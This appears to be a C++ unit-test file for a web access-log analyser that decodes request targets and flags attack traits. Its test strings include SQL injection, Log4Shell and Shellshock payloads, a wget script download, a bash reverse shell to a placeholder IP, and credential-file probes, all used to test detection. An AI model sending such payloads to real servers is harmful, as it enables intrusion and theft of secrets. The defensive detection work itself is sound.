// SPDX-License-Identifier: Apache-2.0
#include "parse/web_request/web_request.h"

#include <gtest/gtest.h>

#include <array>
#include <initializer_list>
#include <span>
#include <string>
#include <tuple>

#include "parse/web_access/web_access.h"
#include "parse/web_access/web_log_test_support.h"
#include "parse/web_request/word_finder.h"

namespace genba::parse {
namespace {

struct Decoded {
  std::string text;
  std::string path;
  int rounds;
};

Decoded decode(std::string_view target) {
  std::array<char, kTargetBufferSize> buffer;
  const DecodedTarget decoded = decode_target(target, buffer);
  EXPECT_FALSE(decoded.was_cut);
  return {std::string(decoded.text), std::string(decoded.text.substr(0, decoded.path_size)),
          decoded.rounds};
}

WebTraits traits(std::string_view target) {
  std::array<char, kTargetBufferSize> buffer;
  return find_web_traits(decode_target(target, buffer));
}

WebTraits set(std::initializer_list<WebTrait> wanted) {
  WebTraits result;
  for (const WebTrait trait : wanted) {
    result.add(trait);
  }
  return result;
}

using enum WebTrait;

TEST(DecodeTarget, PlainTargetIsOnlyLowered) {
  const Decoded decoded = decode("/A/b.PHP?X=1%");
  EXPECT_EQ(decoded.text, "/a/b.php?x=1%");
  EXPECT_EQ(decoded.path, "/a/b.php");
  EXPECT_EQ(decoded.rounds, 0);
  EXPECT_EQ(decode("").text, "");
  EXPECT_EQ(decode("?").text, "?");
  EXPECT_EQ(decode("/%").text, "/%");
  EXPECT_EQ(decode("/%4").text, "/%4");
  EXPECT_EQ(decode("/%zz%u12").text, "/%zz%u12");
}

TEST(DecodeTarget, EachRoundThatChangesCounts) {
  EXPECT_EQ(decode("/%2E%2e/").text, "/../");
  EXPECT_EQ(decode("/%2E%2e/").rounds, 1);
  EXPECT_EQ(decode("/%252e/").text, "/./");
  EXPECT_EQ(decode("/%252e/").rounds, 2);
  EXPECT_EQ(decode("/%25252e/").rounds, 3);
  EXPECT_EQ(decode("/%2525252e/").text, "/%2e/");
  EXPECT_EQ(decode("/%2525252e/").rounds, 3);
  EXPECT_EQ(decode("/a?b=%2541").rounds, 2);
}

TEST(DecodeTarget, PlusIsABlankInTheQueryOnly) {
  EXPECT_EQ(decode("/a+b?c+d=e%2Bf").text, "/a+b?c d=e+f");
}

TEST(DecodeTarget, QuestionMarkFromAnEscapeBeginsNoQuery) {
  const Decoded decoded = decode("/a%3fb?c?d");
  EXPECT_EQ(decoded.text, "/a?b?c?d");
  EXPECT_EQ(decoded.path, "/a?b");
}

TEST(DecodeTarget, OverlongAndWideFormsBecomeAscii) {
  EXPECT_EQ(decode("/..%c0%af").text, "/../");
  EXPECT_EQ(decode("/%C0%AE%c0%ae/").text, "/../");
  EXPECT_EQ(decode("/..%c1%9c").text, "/..\\");
  EXPECT_EQ(decode("/..%e0%80%af").text, "/../");
  EXPECT_EQ(decode("/..%u002f%u00e9").text, "/../\xe9");
  EXPECT_EQ(decode("/%uff0e%uff0e/").text, "/../");
  EXPECT_EQ(decode("/%u3042").text, "/%u3042");
  EXPECT_EQ(decode("/..\xc0%af").text, "/../");
  EXPECT_EQ(decode("/%c3%a9").text, "/\xc3\xa9");
}

TEST(DecodeTarget, EscapesOfTheLogAreUndone) {
  EXPECT_EQ(decode(R"_(/\x22\xZZ\"\\x41)_").text, "/\"\\xzz\"\\x41");
  EXPECT_EQ(decode("/\\").text, "/\\");
  EXPECT_EQ(decode("/\\x4").text, "/\\x4");
  EXPECT_EQ(decode(R"(/\x252e)").text, "/.");
}

TEST(DecodeTarget, SmallBufferKeepsTheFront) {
  std::array<char, 4> buffer;
  DecodedTarget decoded = decode_target("/abcdef?x=1", buffer);
  EXPECT_EQ(decoded.text, "/abc");
  EXPECT_EQ(decoded.path_size, 4U);
  EXPECT_TRUE(decoded.was_cut);
  decoded = decode_target("/a?x=1", buffer);
  EXPECT_EQ(decoded.text, "/a?x");
  EXPECT_TRUE(decoded.was_cut);
  decoded = decode_target("/ab?", buffer);
  EXPECT_EQ(decoded.text, "/ab?");
  EXPECT_FALSE(decoded.was_cut);
  decoded = decode_target("/a", std::span<char>());
  EXPECT_EQ(decoded.text, "");
  EXPECT_TRUE(decoded.was_cut);
}

TEST(WebTraits, Traversal) {
  EXPECT_EQ(traits("/cgi/../../x"), set({kTraversal}));
  EXPECT_EQ(traits("/a/..%5cx"), set({kTraversal}));
  EXPECT_EQ(traits("/%252E%252E%252Ffoo"), set({kTraversal}));
  EXPECT_EQ(traits("/a/..;/x"), set({kTraversal}));
  EXPECT_EQ(traits("/a/.."), set({kTraversal}));
  EXPECT_EQ(traits("/a?f=..%2f..%2fx"), set({kTraversal}));
  EXPECT_EQ(traits("/a?f=....//....//x"), set({kTraversal}));
}

TEST(WebTraits, OneStepInTheQueryIsHowPagesNameANeighbour) {
  EXPECT_EQ(traits("/js/app.js?v=..%2F"), set({kStatic}));
  EXPECT_EQ(traits("/a?next=../index.html"), set({}));
  EXPECT_EQ(traits("/a..b/c...d"), set({}));
}

TEST(WebTraits, SqlInjection) {
  for (const char* target :
       {"/a?id=1+UNION+SELECT+1,2", "/a?id=1%20union%0a%20all%09select%20null", "/a?x=1'+or+'1'='1",
        "/a?id=1/**/union/**/select/**/1", "/a?x=sleep(5)", "/a?x=1%2527+OR+1=1",
        "/a?x=1+and+(select+count(*)+from+t)", "/a?x=extractvalue(1,concat(0x7e,version()))"}) {
    EXPECT_EQ(traits(target), set({kSqlInjection})) << target;
  }
}

TEST(WebTraits, WordsOfSqlInProseAreNone) {
  for (const char* target :
       {"/search?q=select+your+union", "/select/union", "/union-select-committee?or=1",
        "/a?q=rock+%27n%27+roll+or+jazz", "/a?q=student+unions+selected",
        "/docs/benchmark?x=asleep", "/a?order=asc&by=1", "/a?q=western+union+selection"}) {
    EXPECT_EQ(traits(target), set({})) << target;
  }
}

TEST(WebTraits, CodeInjection) {
  for (const char* target :
       {"/?x=${jndi:ldap://203.0.113.5/a}", "/?x=$%7b$%7blower:j%7dndi:x}", "/?x=<?php+echo+1",
        "/?x=system(%27x%27)", "/?a=base64_decode(1)", "/?q=1;wget+http://203.0.113.5/x.sh",
        "/?f=php://input", "/?f=phar://x", "/?f=expect://x", "/?x=()+{+:;};+echo", "/?q=a|sh",
        "/?q=a+|+bash", "/shell?x;chmod+777+y", "/?q=bash+-i+>%26+/dev/tcp/203.0.113.5/1",
        "/?s=index/think/app/invokefunction&function=call_user_func_array"}) {
    EXPECT_EQ(traits(target), set({kCodeInjection})) << target;
  }
  EXPECT_EQ(traits("/cgi-bin/.%2e/.%2e/bin/sh"), set({kCodeInjection, kTraversal}));
}

TEST(WebTraits, InnocentTwinsOfCode) {
  for (const char* target :
       {"/?q=a|shoes", "/?q=filesystem(7)", "/docs/wget", "/?cmd=_xclick", "/?q=how+to+use+curl",
        "/medieval(1)", "/?q=php+input", "/$metadata?x={a}"}) {
    EXPECT_EQ(traits(target), set({})) << target;
  }
}

TEST(WebTraits, SecretFiles) {
  for (const char* target :
       {"/.git/HEAD", "/.git", "/.env", "/x/.env.local", "/.aws/credentials", "/id_rsa",
        "/?f=/etc/passwd", "/%2fetc%2fpasswd", "/c:/win.ini", "/dump.sql", "/dump.sql.gz",
        "/backup.zip", "/old/backup.tar.gz", "/wp-config.php.bak", "/wp-config.php~",
        "/.wp-config.php.swp", "/?f=wp-config.php", "/.bash_history"}) {
    EXPECT_TRUE(traits(target).has(kSecretFile)) << target;
  }
  for (const char* target :
       {"/.github/x", "/.environment", "/order_history", "/docs/backup.zip.html", "/sql/intro",
        "/.well-known/acme-challenge/x", "/grid_rsat"}) {
    EXPECT_FALSE(traits(target).has(kSecretFile)) << target;
  }
  EXPECT_EQ(traits("/wp-config.php"), set({kScript}));
}

TEST(WebTraits, AdminProbes) {
  for (const char* target : {"/phpMyAdmin-5/index.php", "/manager/html", "/wp-login.php",
                             "/solr/admin/info/system?wt=json", "/actuator/env",
                             "/boaform/admin/formLogin", "/cgi-bin/luci/;stok=/locale",
                             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/+CSCOE+/"}) {
    EXPECT_TRUE(traits(target).has(kAdminProbe)) << target;
  }
  EXPECT_EQ(traits("/wp-admin/admin-ajax.php?action=x"), set({kScript}));
  EXPECT_EQ(traits("/actuators/list"), set({}));
  EXPECT_EQ(traits("/a?next=/solr/"), set({}));
}

TEST(WebTraits, ScriptsAndWhereTheyLie) {
  EXPECT_EQ(traits("/a.php"), set({kScript}));
  EXPECT_EQ(traits("/index.php/contact/"), set({kScript}));
  EXPECT_EQ(traits("/x.jsp;jsessionid=1"), set({kScript}));
  EXPECT_EQ(traits("/x.php%00.jpg"), set({kScript, kStatic}));
  EXPECT_EQ(traits("/x.phtml"), set({kScript}));
  EXPECT_EQ(traits("/x.PHP5"), set({kScript}));
  EXPECT_EQ(traits("/a.phps"), set({}));
  EXPECT_EQ(traits("/a?f=b.php"), set({}));
  EXPECT_EQ(traits("/wp-content/uploads/2026/11/x.php"), set({kScript, kScriptInUploadPlace}));
  EXPECT_EQ(traits("/images/logo.php?"), set({kScript, kScriptInUploadPlace}));
  EXPECT_EQ(traits("/TMP/x.aspx?a=1"), set({kScript, kScriptInUploadPlace}));
  EXPECT_EQ(traits("/x.php/images/y"), set({kScript}));
  EXPECT_EQ(traits("/uploads/a.png"), set({kStatic}));
  EXPECT_EQ(traits("/a.php?f=/uploads/b.php"), set({kScript}));
  EXPECT_EQ(traits("/js/app.js?v=3"), set({kStatic}));
  EXPECT_EQ(traits("/a.json"), set({}));
}

TEST(WebTraits, CommandParameters) {
  for (const char* target :
       {"/a?cmd=id", "/a?x=1&CMD=ls+-la", "/a?c=whoami", "/a?cmd=/bin/cat+/x", "/a?exec=x;uname+-a",
        "/a?cmd=ver%3B+uname+-a", "/a?command=x|id", "/a?c=ls+-la"}) {
    EXPECT_EQ(traits(target), set({kCommandParameter})) << target;
  }
  for (const char* target :
       {"/a?cmd=_xclick", "/a?c=id", "/a?c=ps", "/a?c=cat", "/a?cmd=cat", "/a?exec=type",
        "/a?scmd=id", "/a?cmd", "/a?cmd=", "/a?cmd=identify", "/a?c=news;page=3"}) {
    EXPECT_EQ(traits(target), set({})) << target;
  }
}

TEST(HeaderTraits, OnlyInjectionCountsInAHeader) {
  std::array<char, kTargetBufferSize> buffer;
  EXPECT_EQ(find_header_traits("() { :;}; /bin/bash -c 'id'", buffer), set({kCodeInjection}));
  EXPECT_EQ(find_header_traits(R"(${jndi:ldap://203.0.113.5/\x22})", buffer),
            set({kCodeInjection}));
  EXPECT_EQ(find_header_traits("x' OR 1=1 -- ", buffer), set({kSqlInjection}));
  EXPECT_EQ(find_header_traits(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", buffer),
            set({}));
  EXPECT_EQ(find_header_traits("https://example.org/uploads/x.php?f=/etc/passwd", buffer), set({}));
}

TEST(ScannerAgent, AttackToolsAndPlainTools) {
  EXPECT_EQ(scanner_agent("sqlmap/1.7#stable (https://sqlmap.org)"), AgentKind::kAttackTool);
  EXPECT_EQ(scanner_agent("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)"), AgentKind::kAttackTool);
  EXPECT_EQ(scanner_agent("Mozilla/5.0 zgrab/0.x"), AgentKind::kAttackTool);
  EXPECT_EQ(scanner_agent("Fuzz Faster U Fool v2.0"), AgentKind::kAttackTool);
  EXPECT_EQ(scanner_agent("Hello, World"), AgentKind::kAttackTool);
  EXPECT_EQ(scanner_agent("curl/8.14.1"), AgentKind::kPlainTool);
  EXPECT_EQ(scanner_agent("python-requests/2.28.1"), AgentKind::kPlainTool);
  EXPECT_EQ(scanner_agent("Wget/1.21"), AgentKind::kPlainTool);
  EXPECT_EQ(scanner_agent("Go-http-client/1.1"), AgentKind::kPlainTool);
  EXPECT_EQ(scanner_agent("curl/8.0 sqlmap"), AgentKind::kAttackTool);
}

TEST(ScannerAgent, BrowsersAreNone) {
  EXPECT_EQ(scanner_agent(""), AgentKind::kOther);
  EXPECT_EQ(scanner_agent("Mozilla/5.0 (X11; Linux x86_64; rv:25.0) Gecko/20100101 Firefox/25.0"),
            AgentKind::kOther);
  EXPECT_EQ(
      scanner_agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
      AgentKind::kOther);
  EXPECT_EQ(scanner_agent("Xnikto"), AgentKind::kOther);
  EXPECT_EQ(scanner_agent(std::string(kLongestAgent, 'x') + " sqlmap"), AgentKind::kOther);
}

// The automaton against the plainest search there is.
TEST(WordFinder, FindsWhatAPlainSearchFinds) {
  constexpr Word kWords[] = {{"a", 1},    {"ab", 2},    {"bab", 4},
                             {"bc", 8},   {"bca", 16},  {"c", 32},
                             {"caa", 64}, {"b a", 128}, {"ab", 256, Where::kPath}};
  const WordFinder finder(kWords);
  uint32_t random = 7;
  for (int run = 0; run < 2000; ++run) {
    std::string text;
    for (int i = 0; i < 12; ++i) {
      random = random * 1664525U + 1013904223U;
      text += "abc x"[(random >> 16U) % 5];
    }
    std::string folded;  // runs of blanks count as one
    for (const char c : text) {
      if (c != ' ' || !folded.ends_with(' ')) {
        folded += c;
      }
    }
    unsigned expected = 0;
    size_t times = 0;
    for (const Word& word : kWords) {
      for (size_t at = folded.find(word.text); at != folded.npos;
           at = folded.find(word.text, at + 1)) {
        expected |= word.bits;
        ++times;
      }
    }
    unsigned bits = 0;
    size_t seen = 0;
    finder.find(text, [&](const Word& word, size_t) {
      bits |= word.bits;
      ++seen;
    });
    ASSERT_EQ(bits, expected) << text;
    ASSERT_EQ(seen, times) << text;
  }
}

class WebTraitsOfRealProbes : public ::testing::Test {
 protected:
  void SetUp() override {
    if (lines_of(shared_samples() + "crowdsec-hub/SOURCE.txt").empty()) {
      GTEST_SKIP() << "SKIPPED, NOTHING WAS TESTED: no samples in " << shared_samples();
    }
  }
  // How many lines of a case's log have the trait, out of those that are access lines.
  static std::string counted(const char* test_case, const char* log, WebTrait trait) {
    size_t lines = 0;
    size_t hits = 0;
    for (const std::string& text : crowdsec_log(test_case, log)) {
      std::string_view line = text;
      const size_t head = line.find("]: ");  // syslog's
      line.remove_prefix(head < line.find('"') ? head + 3 : 0);
      WebRequest request;
      if (parse_web_access_line(line, request)) {
        ++lines;
        hits += traits(request.target).has(trait) ? 1 : 0;
      }
    }
    return std::to_string(hits) + "/" + std::to_string(lines);
  }
};

TEST_F(WebTraitsOfRealProbes, AreCountedWhereCrowdsecCountsThem) {
  EXPECT_EQ(counted("nginx-http-sqli-probing", "nginx-http-sqli-probing.log", kSqlInjection),
            "13/16");
  EXPECT_EQ(counted("nginx-http-path-traversal", "nginx-http-path-traversal.log", kTraversal),
            "5/9");
  EXPECT_EQ(counted("nginx-http-path-traversal", "nginx-http-path-traversal.log", kSecretFile),
            "4/9");
  EXPECT_EQ(counted("nginx-http-sensitive-files", "nginx-http-sensitive-files.log", kSecretFile),
            "6/9");
  EXPECT_EQ(
      counted("apache2-http-sensitive-files", "apache2-http-sensitive-files.log", kSecretFile),
      "10/13");
  EXPECT_EQ(counted("http-wordpress_wpconfig", "http-wordpress_wpconfig.log", kSecretFile),
            "13/14");
  EXPECT_EQ(counted("apache-cve-2021-41773", "apache-cve-2021-41773.log", kCodeInjection), "2/2");
  EXPECT_EQ(counted("nginx-cve-2021-41773", "cve-2021-41773.log", kTraversal), "2/2");
  EXPECT_EQ(
      counted("http-admin-interface-probing", "http-admin-interface-probing.log", kAdminProbe),
      "3/3");
  EXPECT_EQ(counted("http-bf-wordpress-bf", "http-bf-wordpress-bf.log", kAdminProbe), "9/9");
  EXPECT_EQ(counted("nginx-http-w00twoot", "nginx-http-w00twoot.log", kAdminProbe), "1/2");
}

TEST_F(WebTraitsOfRealProbes, NoneInFloodsOfHarmlessTargets) {
  for (const auto& [test_case, log, lines] :
       {std::tuple{"http-dos-bypass-cache", "http_dos_bypass_cache.log", 356U},
        std::tuple{"http-dos-random-uri", "http_dos_random_uri.log", 66U},
        std::tuple{"http-dos-switching-ua", "http-dos-switching-ua.log", 15U}}) {
    size_t read = 0;
    for (const std::string& line : crowdsec_log(test_case, log)) {
      WebRequest request;
      read += parse_web_access_line(line, request) ? 1 : 0;
      EXPECT_EQ(traits(request.target), WebTraits()) << line;
    }
    EXPECT_EQ(read, lines);
  }
}

}  // namespace
}  // namespace genba::parse
